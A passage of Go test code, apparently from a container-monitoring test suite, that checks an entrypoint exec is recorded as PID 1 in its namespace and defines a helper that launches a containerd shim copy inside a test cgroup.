				entry = append(entry, e)
			}
		}
	}
	require.Len(t, entry, 1, "the entrypoint's exec")
	assert.Equal(t, int64(1), attrMap(entry[0])[attrVpid], "pid 1 of its namespace")
}

// shimCommand runs the shim copy in the suite's "host" cgroup, starting
// argv in cgPath as mode (init or exec).
func shimCommand(s *attackSuite, mode, cgPath string, argv ...string) *exec.Cmd {
	cmd := s.shimCg.command(filepath.Join(s.bin, "containerd-shim-runc-v2"), append([]string{mode, cgPath}, argv...)...)
	cmd.Env = append(os.Environ(), helperEnv+"=spawn")
	return cmd
}
